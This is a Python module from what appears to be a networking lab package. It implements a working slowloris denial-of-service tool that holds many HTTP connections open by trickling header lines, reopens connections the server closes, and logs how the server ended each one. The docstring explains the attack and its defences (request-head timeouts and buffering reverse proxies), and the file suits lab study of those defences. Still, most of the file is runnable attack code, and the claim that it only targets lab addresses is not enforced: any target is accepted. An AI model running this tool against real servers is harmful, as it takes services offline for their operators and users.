"""Slow clients (slowloris): holding a server's connections with almost no traffic (``python -m lab.packets.slowloris``).

A server that gives each connection a worker (a process or a thread, as
Apache's prefork does) has a fixed number of them. Slowloris opens that many
connections and never finishes a request: it sends a request line and one
header, then one more header line every few seconds, so the request head is
never complete and the worker waits. A few hundred bytes a second hold every
worker, and real clients queue behind them until they give up.

The defences are a deadline for the whole request head (HAProxy ``timeout
http-request``, nginx ``client_header_timeout``, Apache ``mod_reqtimeout``):
the server answers 408 and frees the worker; and a reverse proxy in front
that reads each head completely before it takes anything from an origin, so
slow clients cost the origins nothing.

Bounded: at most ``--connections`` (1000) for at most ``--duration`` seconds,
only to the lab address it is given. A connection the server closes is
opened again after a second. Every second it prints how many connections
are open and how many the server closed, and what it answered.

    python -m lab.packets.slowloris --target 10.0.0.11 --port 80 --connections 100 --interval 2
"""
from __future__ import annotations

import argparse
import asyncio
import signal
import sys
import time
from collections import Counter

MAX_CONNECTIONS = 1000
MAX_DURATION = 600.0


class Slowloris:
    def __init__(self, target: str, port: int, interval: float) -> None:
        self.target, self.port, self.interval = target, port, interval
        self.open = 0
        self.closed: Counter[str] = Counter()  # how the server ended each connection: "408", "EOF", "refused" ...

    async def hold(self, n: int, stop: asyncio.Event) -> None:
        """One connection, kept open with a header line every ``interval``; opened again when the server ends it."""
        while not stop.is_set():
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(self.target, self.port), 5)
            except (OSError, asyncio.TimeoutError) as e:
                self.closed["refused" if isinstance(e, ConnectionRefusedError) else "no connection"] += 1
                await asyncio.sleep(1)
                continue
            self.open += 1
            try:
                writer.write(f"GET /slowloris/{n} HTTP/1.1\r\nHost: {self.target}\r\n".encode())
                line = 0
                while not stop.is_set():
                    await writer.drain()
                    try:  # the server may answer (408) or close while we wait
                        answer = await asyncio.wait_for(reader.read(64), self.interval)
                    except asyncio.TimeoutError:
                        line += 1
                        writer.write(f"X-Slow-{line}: {line}\r\n".encode())
                        continue
                    self.closed[answer.split(b" ", 2)[1].decode("latin-1", "replace") if answer.startswith(b"HTTP/") else "EOF"] += 1
                    break
            except OSError:
                self.closed["reset"] += 1
            finally:
                self.open -= 1
                writer.close()
            await asyncio.sleep(1)

    def line(self) -> str:
        ended = ", ".join(f"{k} {v}" for k, v in sorted(self.closed.items())) or "none"
        return f"{time.strftime('%H:%M:%S')} open {self.open}; ended by the server: {ended}"


async def run(target: str, port: int, connections: int, interval: float, duration: float) -> Slowloris:
    attack = Slowloris(target, port, interval)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    loop.add_signal_handler(signal.SIGINT, stop.set)
    tasks = []
    for n in range(min(connections, MAX_CONNECTIONS)):
        tasks.append(asyncio.create_task(attack.hold(n, stop)))
        await asyncio.sleep(0.005)  # ramp up over a few hundred milliseconds, as the real tool does
    end = time.monotonic() + min(duration, MAX_DURATION)
    while not stop.is_set() and time.monotonic() < end:
        print(attack.line(), flush=True)
        try:
            await asyncio.wait_for(stop.wait(), 1)
        except asyncio.TimeoutError:
            pass
    stop.set()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print("done: " + attack.line(), flush=True)
    return attack


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m lab.packets.slowloris")
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--connections", type=int, default=200, help=f"connections held at once (at most {MAX_CONNECTIONS})")
    parser.add_argument("--interval", type=float, default=2.0, help="seconds between the header lines of one connection")
    parser.add_argument("--duration", type=float, default=MAX_DURATION)
    args = parser.parse_args(argv)
    asyncio.run(run(args.target, args.port, args.connections, args.interval, args.duration))
    return 0


if __name__ == "__main__":
    sys.exit(main())
